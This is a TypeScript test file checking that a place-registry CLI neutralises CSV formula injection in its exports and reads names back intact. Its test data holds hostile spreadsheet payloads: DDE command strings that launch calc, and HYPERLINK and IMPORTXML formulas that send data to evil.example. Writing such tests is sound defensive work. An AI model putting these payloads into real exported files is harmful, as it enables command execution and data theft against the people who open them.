/**
 * CSV exports cannot attack the reader (issue #9 item 6, OWASP "CSV Injection"): every text
 * cell that begins with =, +, -, @, tab or carriage return is written with a leading ', in
 * every CSV the program writes (places export, synthetic registries: both go through
 * formatCsv); data numbers — the lon and lat columns — stay numbers, negative ones included;
 * and reading the file back gives the names as they were.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { glp, scratchDir } from '../../test/support/cli.ts';
import type { PlaceRecord } from '../domain/place.ts';
import { CSV_COLUMNS, formatCsv, parseCsv, readCsvRows, toCsv } from './csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"clique")',
  "=cmd|' /C calc'!A0",
  '+55 91 3333-0000',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=já marcado",
  'Revenda Boa Esperança',
];

const place = (name: string, i: number): PlaceRecord => ({
  id: `p${i}`,
  municipality: 'belem-pa',
  category: 'glp-outlet',
  status: 'licensed',
  name,
  geometry: { type: 'Point', coordinates: [-48.4712 - i / 1000, -1.4301] },
  source: i === 0 ? '=IMPORTXML("http://evil.example","//a")' : 'teste',
  importedAt: '2025-01-15T12:00:00.000Z',
  validFrom: null,
  validTo: null,
  data: { externalId: `-${i}`, note: '@nota' },
  version: 1,
});

describe('CSV injection', () => {
  it('text cells that a spreadsheet would run are written with a leading quote; numbers stay numbers', () => {
    const csv = toCsv(HOSTILE.map(place));
    const t = parseCsv(csv.replaceAll("'", '§')); // read without undoing: every leading ' shows as §
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    for (const [i, row] of t.rows.entries()) {
      const name = row.cells[col('name')] as string;
      const original = HOSTILE[i] as string;
      if (/^[=+\-@\t\r']/.test(original)) assert.equal(name[0], '§', `name ${JSON.stringify(original)} written as ${JSON.stringify(name)}`);
      else assert.equal(name, original);
      assert.equal(row.cells[col('external_id')], `§-${i}`);
      // Data numbers: the coordinates, negative, as numbers — no quote, no prefix.
      assert.match(row.cells[col('lon')] as string, /^-48\.\d+$/);
      assert.equal(row.cells[col('lat')], '-1.4301');
    }
    assert.match(t.rows[0]?.cells[col('source')] ?? '', /^§=IMPORTXML/);
    // Every cell of the file: none begins with a formula character unprefixed, but the coordinates.
    for (const row of parseCsv(csv.replaceAll("'", '§')).rows)
      for (const [k, cell] of row.cells.entries())
        if (k !== col('lon') && k !== col('lat')) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `column ${CSV_COLUMNS[k]}: ${cell}`);
  });

  it('reading the file back gives every cell as it was', () => {
    const rows = HOSTILE.map((name, i) => [name, -i - 0.5, `=x${i}`]);
    const back = parseCsv(formatCsv(['name', 'n', 'formula'], rows));
    assert.deepEqual(
      back.rows.map((r) => r.cells),
      rows.map((r) => r.map(String)),
    );
    // The import reads the names back (it trims leading blanks: tab and CR names lose them, as any name would).
    const imported = readCsvRows(toCsv(HOSTILE.map(place)), 'export.csv');
    assert.deepEqual(
      imported.map((r) => r.props['name']),
      HOSTILE.map((n) => n.trim()),
    );
    assert.deepEqual(imported[3]?.geometry, { type: 'Point', coordinates: [-48.4742, -1.4301] });
  });

  it('glp places export writes such names neutralised, and glp places import reads them back', async () => {
    const dir = scratchDir('glp-csv-');
    const data = join(dir, 'data');
    const fc = {
      type: 'FeatureCollection',
      features: HOSTILE.slice(0, 5).map((name, i) => ({
        type: 'Feature',
        properties: { category: 'glp-outlet', status: 'licensed', name, id: `R${i}` },
        geometry: { type: 'Point', coordinates: [-48.47 - i / 1000, -1.43] },
      })),
    };
    const src = join(dir, 'in.geojson');
    writeFileSync(src, JSON.stringify(fc));
    assert.equal((await glp(['places', 'import', 'belem-pa', src, '--data', data, '--quiet'])).code, 0);
    const out = join(dir, 'out.csv');
    const ex = await glp(['places', 'export', 'belem-pa', '--out', out, '--data', data]);
    assert.equal(ex.code, 0, ex.err);
    const text = readFileSync(out, 'utf8');
    assert.match(text, /,"'=HYPERLINK\(/);
    assert.match(text, /,'\+55 91 3333-0000,/);
    assert.doesNotMatch(text, /,[=+@]/);
    const data2 = join(dir, 'data2');
    const im = await glp(['places', 'import', 'belem-pa', out, '--data', data2, '--quiet']);
    assert.equal(im.code, 0, im.err);
    const again = await glp(['places', 'export', 'belem-pa', '--out', '-', '--format', 'geojson', '--data', data2]);
    const names = (JSON.parse(again.out) as { features: { properties: { name: string } }[] }).features.map((f) => f.properties.name).sort();
    assert.deepEqual(names, HOSTILE.slice(0, 5).sort());
  });
});
